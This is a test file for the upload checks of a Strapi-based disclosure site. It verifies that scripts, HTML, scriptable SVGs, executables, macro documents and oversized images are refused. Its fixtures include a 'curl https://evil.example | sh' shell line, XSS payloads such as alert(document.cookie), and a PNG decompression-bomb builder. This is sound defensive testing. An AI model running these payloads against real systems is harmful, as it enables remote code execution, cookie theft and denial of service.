import fs, { readFileSync } from 'fs';
import path from 'path';
import sharp from 'sharp';
import zlib from 'zlib';
import { createAdminAccount } from '../harness/admin-users';
import * as sample from '../harness/sample-files';
import { createFullAccessToken, startApp, type TestApp } from '../harness/strapi';

const PUBLIC_DIR = path.join(__dirname, '..', '..', 'public');

let app: TestApp;
let token: string;
const stored: string[] = [];

const upload = (name: string, content: Buffer, contentType?: string) =>
  app
    .http()
    .post('/api/upload')
    .set('Authorization', `Bearer ${token}`)
    .attach('files', content, { filename: name, ...(contentType ? { contentType } : {}) });

const fileCount = () => app.strapi.db.query('plugin::upload.file').count();

/** A PNG whose header claims `width`×`height` over a few bytes of data: a decompression bomb. */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', zlib.deflateSync(Buffer.alloc(1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

beforeAll(async () => {
  app = await startApp();
  token = await createFullAccessToken(app.strapi);
});

afterAll(async () => {
  for (const url of stored) fs.rmSync(path.join(PUBLIC_DIR, url), { force: true });
  await app?.stop();
});

const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
/** Refused as not a kind a disclosure site publishes, naming the file and what is accepted. */
const notAccepted = (name: string) =>
  new RegExp(
    `^不允许上传该类型的文件：${escapeRegExp(name)}（仅接受 PDF、OFD、Office/WPS 文档、图片、压缩包、音频和视频） \\(file type not accepted: ${escapeRegExp(name)}; only `
  );

describe('uploads through the content API', () => {
  test.each([
    ['prefixed XHTML (<x:script>)', 'page.xhtml', sample.prefixedXhtml(), 'application/xhtml+xml'],
    ['prefixed XHTML declared as XML', 'data.xml', sample.prefixedXhtml(), 'application/xml'],
    [
      'markup after the first kilobyte',
      'report.txt',
      sample.markupAfterFirstKilobyte(),
      'text/plain',
    ],
    [
      'an XML file (application/xml)',
      'catalogue.xml',
      Buffer.from('<?xml version="1.0"?><catalogue><item>政策</item></catalogue>'),
      'application/xml',
    ],
    [
      'an ECMAScript file (.ecma)',
      'app.ecma',
      Buffer.from('fetch("/admin/users").then((r) => r.json())'),
      'application/ecmascript',
    ],
    [
      'an ECMAScript file (.es) declared as text',
      'app.es',
      Buffer.from('export default () => fetch("/admin/users")'),
      'text/plain',
    ],
    [
      'a script declared as text',
      'app.js',
      Buffer.from('fetch("/admin/users").then((r) => r.json())'),
      'text/plain',
    ],
    [
      'an SVG with script',
      'logo.svg',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
      ),
      'image/svg+xml',
    ],
    [
      'an SVG declared as PNG',
      'logo.png',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
      'image/png',
    ],
    [
      'an HTML page',
      'notice.html',
      Buffer.from('<!doctype html><script>fetch("/admin")</script>'),
      'text/html',
    ],
    [
      'an HTML page named as a PDF',
      'report.pdf',
      Buffer.from('<html><body onload="alert(1)">年度报告</body></html>'),
      'application/pdf',
    ],
    ['a Windows executable', 'setup.exe', sample.windowsExecutable(), 'application/octet-stream'],
    [
      'a Windows executable named as a PDF',
      'report.pdf',
      sample.windowsExecutable(),
      'application/pdf',
    ],
    ['a Linux executable', 'tool.bin', sample.elfExecutable(), 'application/octet-stream'],
    [
      'a shell script',
      'install.sh',
      Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
      'application/x-sh',
    ],
    ['plain text', '说明.txt', Buffer.from('政府信息公开工作年度报告\n'), 'text/plain'],
    ['a Java archive', 'tool.zip', sample.jar(), 'application/zip'],
    [
      'a macro-enabled Word document',
      '通知.docx',
      sample.docx({ macros: true }),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    ['a HEIF photo', 'photo.heic', sample.heic(), 'image/heic'],
  ])(
    '%s is refused with the reason, and nothing is stored',
    async (_what, name, content, contentType) => {
      const before = await fileCount();
      const response = await upload(name, content, contentType);
      expect(response.status).toBe(400);
      expect(response.body.error.message).toMatch(notAccepted(name));
      expect(await fileCount()).toBe(before);
    }
  );

  test('a PDF named .html is refused: it would be served as a page', async () => {
    const before = await fileCount();
    const response = await upload('notice.html', sample.pdf(), 'text/html');
    expect(response.status).toBe(400);
    expect(response.body.error.message).toBe(
      '文件内容为 PDF 文档，与扩展名 .html 不符：notice.html，请改用 .pdf 扩展名后再上传 (the content of notice.html is a PDF document, not what its extension .html says: name it .pdf)'
    );
    expect(await fileCount()).toBe(before);
  });

  test('one refused file among several: none of them is stored', async () => {
    const before = await fileCount();
    const response = await app
      .http()
      .post('/api/upload')
      .set('Authorization', `Bearer ${token}`)
      .attach('files', sample.pdf(), { filename: '年度报告.pdf', contentType: 'application/pdf' })
      .attach('files', sample.prefixedXhtml(), {
        filename: '附件.xhtml',
        contentType: 'application/xhtml+xml',
      });
    expect(response.status).toBe(400);
    expect(response.body.error.message).toMatch(notAccepted('附件.xhtml'));
    expect(await fileCount()).toBe(before);
  });

  test.each([
    ['年度报告.pdf', 'application/pdf', () => sample.pdf()],
    ['公文.ofd', 'application/ofd', () => sample.ofd()],
    [
      '通知.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      () => sample.docx(),
    ],
    [
      '预算表.xlsx',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      () => sample.xlsx(),
    ],
    [
      '汇报.pptx',
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      () => sample.pptx(),
    ],
    ['旧稿.doc', 'application/msword', () => sample.ole2()],
    ['金山文字.wps', 'application/octet-stream', () => sample.ole2()],
    ['文本.odt', 'application/vnd.oasis.opendocument.text', () => sample.odf()],
    ['图解.png', 'image/png', () => sample.png()],
    ['动图.gif', 'image/gif', () => sample.gif()],
    ['图.webp', 'image/webp', () => sample.webp()],
    ['位图.bmp', 'image/bmp', () => sample.bmp()],
    ['附件.zip', 'application/zip', () => sample.zip([['说明.txt', '附件说明']])],
    ['附件.rar', 'application/vnd.rar', () => sample.rar()],
    ['附件.7z', 'application/x-7z-compressed', () => sample.sevenZip()],
    ['数据.tar.gz', 'application/gzip', () => sample.gzip()],
    ['录音.mp3', 'audio/mpeg', () => sample.mp3()],
    ['录音.wav', 'audio/wav', () => sample.wav()],
    ['录音.m4a', 'audio/mp4', () => sample.isoMedia('M4A ', ['M4A ', 'mp42', 'isom'])],
    ['录音.ogg', 'audio/ogg', () => sample.ogg()],
    ['录音.flac', 'audio/flac', () => sample.flac()],
    ['发布会.mp4', 'video/mp4', () => sample.isoMedia()],
    ['发布会.mov', 'video/quicktime', () => sample.isoMedia('qt  ', ['qt  '])],
    ['发布会.webm', 'video/webm', () => sample.matroska('webm')],
    ['发布会.avi', 'video/x-msvideo', () => sample.avi()],
    ['旧视频.flv', 'video/x-flv', () => sample.flv()],
    ['旧视频.wmv', 'video/x-ms-wmv', () => sample.asf()],
  ])('%s is stored as %s, whatever it was declared as', async (name, mime, build) => {
    // Declared as nothing in particular: the type stored is the content's.
    const response = await upload(name, await build(), 'application/octet-stream');
    expect(response.status).toBe(201);
    const [file] = response.body;
    stored.push(file.url, ...Object.values(file.formats ?? {}).map((format: any) => format.url));
    expect(file).toMatchObject({ name, mime, ext: path.extname(name) });
  });

  test('served with its own type: a PDF declared as a page is stored and served as a PDF', async () => {
    const response = await upload('年度报告.pdf', sample.pdf(), 'text/html');
    expect(response.status).toBe(201);
    const [file] = response.body;
    stored.push(file.url);
    expect(file.mime).toBe('application/pdf');
    // Attached to nothing public, so read as the admin's media library reads it (upload-gate.test.ts).
    const admin = await createAdminAccount(app, {
      name: 'typechecker',
      roles: ['strapi-super-admin'],
      organization: null,
    });
    const served = await app.http().get(file.url).set(admin.headers);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
  });

  test('a file named without an extension is stored under its kind’s', async () => {
    const response = await upload('附件一', sample.pdf(), 'application/octet-stream');
    expect(response.status).toBe(201);
    const [file] = response.body;
    stored.push(file.url);
    expect(file).toMatchObject({ ext: '.pdf', mime: 'application/pdf' });
    expect(file.url).toMatch(/\.pdf$/);
  });

  test('a replacement is checked too, and must suit the address it keeps', async () => {
    const created = await upload('年度报告.pdf', sample.pdf('第一版'), 'application/pdf');
    expect(created.status).toBe(201);
    const [file] = created.body;
    stored.push(file.url);
    const replace = (name: string, content: Buffer, contentType: string) =>
      app
        .http()
        .post(`/api/upload?id=${file.id}`)
        .set('Authorization', `Bearer ${token}`)
        .attach('files', content, { filename: name, contentType });

    const page = await replace('年度报告.xhtml', sample.prefixedXhtml(), 'application/xhtml+xml');
    expect(page.status).toBe(400);
    expect(page.body.error.message).toMatch(notAccepted('年度报告.xhtml'));
    const picture = await replace('图解.png', await sample.png(), 'image/png');
    expect(picture.status).toBe(400);
    expect(picture.body.error.message).toMatch(
      /^替换的文件须与原文件格式相同：原文件扩展名为 \.pdf，图解\.png 的内容为 PNG 图片 \(a replacement keeps/
    );
    expect(readFileSync(path.join(PUBLIC_DIR, file.url))).toEqual(sample.pdf('第一版'));

    const second = await replace('年度报告（修订）.pdf', sample.pdf('第二版'), 'application/pdf');
    expect(second.status).toBe(200);
    expect(second.body).toMatchObject({ id: file.id, url: file.url, mime: 'application/pdf' });
    expect(readFileSync(path.join(PUBLIC_DIR, file.url))).toEqual(sample.pdf('第二版'));
  });

  test('a replacement of a file that does not exist: 404, not a server error', async () => {
    const before = await fileCount();
    for (const id of ['999999', 'abc', '1e3', '-1']) {
      const response = await app
        .http()
        .post(`/api/upload?id=${id}`)
        .set('Authorization', `Bearer ${token}`)
        .attach('files', sample.pdf(), { filename: 'a.pdf', contentType: 'application/pdf' });
      expect(response.status).toBe(404);
    }
    expect(await fileCount()).toBe(before);
  });

  test('a photo is stored without its EXIF and GPS metadata, original and derivatives alike', async () => {
    const photo = await sharp({
      create: { width: 1200, height: 800, channels: 3, background: '#3a6ea5' },
    })
      .jpeg()
      .withExif({
        IFD0: { Make: 'PhoneMaker', Model: 'Field Camera', Copyright: 'Reporter' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '36/1 40/1 1234/100',
          GPSLongitudeRef: 'E',
          GPSLongitude: '117/1 0/1 0/1',
        },
      })
      .toBuffer();
    expect((await sharp(photo).metadata()).exif).toBeDefined();

    const response = await upload('现场照片.jpg', photo, 'image/jpeg');
    expect(response.status).toBe(201);
    const [file] = response.body;
    const urls = [file.url, ...Object.values(file.formats ?? {}).map((format: any) => format.url)];
    expect(urls.length).toBeGreaterThan(1);
    for (const url of urls) {
      stored.push(url);
      const metadata = await sharp(path.join(PUBLIC_DIR, url)).metadata();
      expect(metadata.exif).toBeUndefined();
      expect(metadata.xmp).toBeUndefined();
    }
  });

  test('the pixel limit is 40 megapixels (the default): 40,000,000 stored, one pixel more refused from its header', async () => {
    expect(app.strapi.config.get('plugin::disclosure.images')).toEqual({ maxPixels: 40_000_000 });
    const before = await fileCount();
    // 754717 × 53 = 40,000,001: refused from the header alone (its data would not even decode).
    const over = await upload('panorama.png', pngClaiming(754_717, 53), 'image/png');
    expect(over.status).toBe(400);
    expect(over.body.error.message).toBe(
      '图片像素过大：754717×53，上限 40 百万像素 (image too large: 754717×53; at most 40 megapixels)'
    );
    expect(over.body.error.details).toEqual({ maxPixels: 40_000_000 });
    const tooLarge = await upload(
      'huge.png',
      await sharp({ create: { width: 8001, height: 5000, channels: 3, background: '#ffffff' } })
        .png()
        .toBuffer(),
      'image/png'
    );
    expect(tooLarge.status).toBe(400);
    expect(tooLarge.body.error.message).toMatch(/^图片像素过大：8001×5000，上限 40 百万像素/);
    expect(await fileCount()).toBe(before);

    // 8000 × 5000 = 40,000,000 exactly: a real image at the limit is decoded, cleaned and stored.
    const atLimit = await sharp({
      create: { width: 8000, height: 5000, channels: 3, background: '#ffffff' },
    })
      .png()
      .toBuffer();
    const accepted = await upload('全景.png', atLimit, 'image/png');
    expect(accepted.status).toBe(201);
    const [file] = accepted.body;
    stored.push(file.url, ...Object.values(file.formats ?? {}).map((format: any) => format.url));
    expect(file).toMatchObject({ width: 8000, height: 5000, mime: 'image/png' });
    expect(await fileCount()).toBe(before + 1);
  }, 240_000);

  test('a 20000×20000 PNG is refused from its header, without decoding it', async () => {
    const bomb = pngClaiming(20_000, 20_000);
    const before = await fileCount();
    const rssBefore = process.memoryUsage().rss;
    const response = await upload('bomb.png', bomb, 'image/png');
    expect(response.status).toBe(400);
    expect(response.body.error.message).toMatch(/^图片像素过大：20000×20000，上限 40 百万像素/);
    // Decoding it would take 1.2 GB; the refusal costs next to nothing.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(200 * 1024 * 1024);
    expect(await fileCount()).toBe(before);
  });

  test('WebP derivatives beside every format; a 750×6000 infographic (图解) becomes 4 ordered tiles', async () => {
    const rows = Buffer.alloc(750 * 6000 * 3);
    for (let y = 0; y < 6000; y += 1)
      rows.fill(Math.floor(y / 1500) * 60, y * 750 * 3, (y + 1) * 750 * 3);
    const infographic = await sharp(rows, { raw: { width: 750, height: 6000, channels: 3 } })
      .png()
      .toBuffer();
    const response = await upload('政策图解.png', infographic, 'image/png');
    expect(response.status).toBe(201);
    const [file] = response.body;
    const formats = file.formats as Record<string, any>;
    stored.push(file.url, ...Object.values(formats).map((format: any) => format.url));

    expect(formats.webp).toMatchObject({ mime: 'image/webp', width: 750, height: 6000 });
    const breakpoints = Object.keys(formats).filter(
      (name) => !name.endsWith('webp') && !name.startsWith('tile_') && name !== 'thumbnail'
    );
    expect(breakpoints.length).toBeGreaterThan(0);
    for (const key of breakpoints) {
      expect(formats[`${key}_webp`]).toMatchObject({
        mime: 'image/webp',
        width: formats[key].width,
        height: formats[key].height,
      });
    }
    const tiles = Object.keys(formats).filter((key) => key.startsWith('tile_'));
    expect(tiles).toEqual(['tile_01', 'tile_02', 'tile_03', 'tile_04']);
    for (const [index, key] of tiles.entries()) {
      expect(formats[key]).toMatchObject({ mime: 'image/webp', width: 750, height: 1500 });
      // In reading order: tile n shows band n of the picture.
      const { dominant } = await sharp(path.join(PUBLIC_DIR, formats[key].url)).stats();
      expect(Math.abs(dominant.r - index * 60)).toBeLessThan(16);
    }
    // Read back through the API with the file: the tiles come in order.
    const read = await app
      .http()
      .get(`/api/upload/files/${file.id}`)
      .set('Authorization', `Bearer ${token}`);
    expect(Object.keys(read.body.formats).filter((key) => key.startsWith('tile_'))).toEqual(tiles);
  });

  test('an image that is not what it claims is refused, saying what it is', async () => {
    const png = await sample.png();
    const before = await fileCount();
    const misnamed = await upload('照片.jpg', png, 'image/jpeg');
    expect(misnamed.status).toBe(400);
    expect(misnamed.body.error.message).toMatch(
      /^文件内容为 PNG 图片，与扩展名 \.jpg 不符：照片\.jpg，请改用 \.png 扩展名后再上传/
    );
    const misdeclared = await upload('照片.png', png, 'image/jpeg');
    expect(misdeclared.status).toBe(400);
    expect(misdeclared.body.error.message).toMatch(
      /^文件内容为 PNG 图片，与所称的 image\/jpeg 不符/
    );
    const notAnImage = await upload(
      '图表.png',
      Buffer.from('这不是图片，是一段文字。'.repeat(20)),
      'image/png'
    );
    expect(notAnImage.status).toBe(400);
    expect(notAnImage.body.error.message).toMatch(notAccepted('图表.png'));
    expect(await fileCount()).toBe(before);
  });

  test('the public may not upload at all', async () => {
    const response = await app
      .http()
      .post('/api/upload')
      .attach('files', Buffer.from('hello'), 'note.txt');
    expect([401, 403]).toContain(response.status);
  });
});

describe('uploads through the admin panel', () => {
  test('the same check: a page is refused, a document stored', async () => {
    const admin = await createAdminAccount(app, {
      name: 'uploader',
      roles: ['strapi-super-admin'],
      organization: null,
    });
    const before = await fileCount();
    const page = await app
      .http()
      .post('/upload')
      .set(admin.headers)
      .attach('files', sample.prefixedXhtml(), {
        filename: '通知.xhtml',
        contentType: 'application/xhtml+xml',
      });
    expect(page.status).toBe(400);
    expect(page.body.error.message).toMatch(notAccepted('通知.xhtml'));
    expect(await fileCount()).toBe(before);

    const document = await app
      .http()
      .post('/upload')
      .set(admin.headers)
      .attach('files', sample.ofd(), {
        filename: '公文.ofd',
        contentType: 'application/octet-stream',
      });
    expect(document.status).toBe(201);
    stored.push(document.body[0].url);
    expect(document.body[0]).toMatchObject({ mime: 'application/ofd', ext: '.ofd' });
    expect(await fileCount()).toBe(before + 1);
  });
});
